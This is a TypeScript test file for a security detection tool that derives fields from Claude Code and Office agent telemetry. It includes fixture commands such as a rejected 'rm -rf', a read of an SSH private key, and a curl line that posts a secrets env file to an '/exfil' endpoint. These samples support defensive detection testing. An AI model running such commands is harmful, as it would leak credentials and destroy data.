import { describe, expect, it } from "vitest";
import { fixtureRecords } from "./rule-tests";
import { destinationOf } from "./record";

// Stored rows as the rules see them: the telemetry's own attribute names plus the derived fields,
// on the real captures of both Claude Code versions and the Office traces.

describe("detection records", () => {
  it("derive the command, target, action key and decision source from Claude Code events", () => {
    for (const version of [undefined, "2.1.332"]) {
      const rm = fixtureRecords("f-hook-block", version).find((r) => r.name === "tool_decision" && r.fields.decision === "reject")!;
      expect(rm.fields).toMatchObject({
        "event.name": "tool_decision", tool_name: "Bash", source: "hook", decision_source: "hook", decision: "reject",
        command: "rm -rf tmp", target: "rm -rf tmp", action_key: "Bash:rm -rf tmp",
      });
      expect((rm.fields.tool_parameters as Record<string, unknown>).full_command).toBe("rm -rf tmp");
      expect(rm.person).toBe("5d41c2a0e7b94f1c8a3e6b2d9f04c7a1b8e2d5f6093a4c7e1b2d8f5a6c3e9b04"); // default identity: user.id
      expect(rm.fields["session.id"]).toBe(rm.sessionId);
      expect(rm.fields["prompt.id"]).toBe(rm.promptId);
    }
  });

  it("derive file paths, MCP server and tool, and typed numbers", () => {
    const read = fixtureRecords("c-read-write-edit").filter((r) => r.name === "tool_result").map((r) => r.fields.file_path);
    expect(read).toContain("/home/jon.snow/.ssh/id_rsa");
    const mcp = fixtureRecords("d-mcp", "2.1.332").find((r) => r.name === "tool_result")!;
    expect(mcp.fields).toMatchObject({ mcp_server: "soc_demo", mcp_tool: "lookup_user", target: "soc_demo:lookup_user" });
    const hook = fixtureRecords("f-hook-block").find((r) => r.name === "hook_execution_complete" && r.fields.num_blocking === 1);
    expect(hook).toBeDefined();
    const mode = fixtureRecords("c-read-write-edit", "2.1.332").find((r) => r.name === "tool_decision")!;
    expect(mode.fields.permission_mode).toBe("acceptEdits");
  });

  it("map Office spans with the session and person of their trace root", () => {
    const spans = fixtureRecords("office-traces");
    const crm = spans.find((r) => r.name === "agent.tool_execution" && r.fields.mcp_server === "westeros-crm")!;
    expect(crm.kind).toBe("span");
    expect(crm.service).toBe("office_agent");
    expect(crm.fields).toMatchObject({ "span.name": "agent.tool_execution", "tool.owner": "third_party", mcp_tool: "lookup_account", tool_name: "mcp_tool" });
    expect(crm.sessionId).not.toBeNull();
    expect(crm.person).toMatch(/@westeros\.example$/);
  });

  it("find where a command sends data", () => {
    expect(destinationOf("curl -s http://127.0.0.1:18999/exfil -d @secrets/prod.env")).toBe("127.0.0.1");
    expect(destinationOf("scp db.dump jon@backup.example:/tmp/")).toBe("backup.example");
    expect(destinationOf("ls -la")).toBeNull();
    expect(destinationOf("x".repeat(1_000_000))).toBeNull();
  });
});
